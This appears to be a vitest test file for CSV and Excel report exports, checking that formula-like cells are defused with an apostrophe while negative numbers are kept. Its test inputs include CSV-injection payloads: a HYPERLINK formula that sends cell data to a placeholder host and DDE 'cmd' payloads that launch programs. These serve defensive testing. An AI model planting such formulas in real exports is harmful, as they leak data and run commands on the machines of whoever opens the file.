import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../src/data/csv.js';
import type { ReportDocument, Table } from '../../src/report/index.js';
import { tableCsv, tablesXlsx } from '../../src/report/render-csv.js';
import { excel } from '../../src/util/excel.js';
import { defuseFormula, toCsv } from '../../src/util/to-csv.js';

// OWASP "CSV injection": a cell beginning with = + - @ tab or CR is run as a formula by Excel,
// WPS and LibreOffice. A district name or note typed into a filled form reaches our CSV exports.
const hostile = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "=cmd|' /C calc'!A0", '+1+cmd|x', '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1'];

describe('defuseFormula / toCsv', () => {
  it.each(hostile)('prefixes %j with an apostrophe so it is shown as text', (text) => {
    expect(defuseFormula(text)).toBe(`'${text}`);
    const [row] = parseCsv(toCsv([[text]]).slice(1), 'x.csv').grid.rows;
    expect(row!.cells[0]).toBe(`'${text}`);
  });

  it.each(['-3.5', '+2', '-1,234', '-12.5%', '-0.0001', '1e-5', '-2E+3'])('keeps the number %s as it is', (text) => {
    expect(defuseFormula(text)).toBe(text);
  });

  it('leaves ordinary text and numbers alone, and numbers are never touched', () => {
    for (const text of ['东昌府区', '13.9%', '—', 'a=b', "O'Brien", '1-2月']) expect(defuseFormula(text)).toBe(text);
    expect(toCsv([[-3.5, 0, '=1']])).toBe("\uFEFF-3.5,0,'=1\r\n");
  });
});

const table = {
  type: 'table', name: 'regions', label: '表1', caption: '=HYPERLINK("x")', note: '',
  columns: [{ title: '地区', align: 'left' as const }, { title: '变化', align: 'right' as const }],
  rows: [['=cmd|x', '-1.2'], ['@SUM(A1)', '3.4']],
} satisfies Table;

describe('report table exports', () => {
  it('defuses formula-like cells in the CSV of a table, keeping negative numbers', () => {
    const rows = parseCsv(tableCsv(table).slice(1), 't.csv').grid.rows;
    expect(rows.slice(1).map((r) => r.cells.slice(0, 2))).toEqual([["'=cmd|x", '-1.2'], ["'@SUM(A1)", '3.4']]);
  });

  it('writes every text of the workbook as a string cell, never as a formula', async () => {
    const doc = { meta: { date: '2025-03-31', office: '办公室' }, blocks: [table] } as unknown as ReportDocument;
    const wb = new (await excel()).Workbook();
    await wb.xlsx.load((await tablesXlsx(doc)) as unknown as ArrayBuffer);
    const cells: { type: number; formula?: string; value: unknown }[] = [];
    wb.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push({ type: c.type, formula: c.formula, value: c.value })));
    expect(cells.map((c) => c.value)).toContain('=cmd|x');
    expect(cells.every((c) => c.formula === undefined)).toBe(true);
  });
});
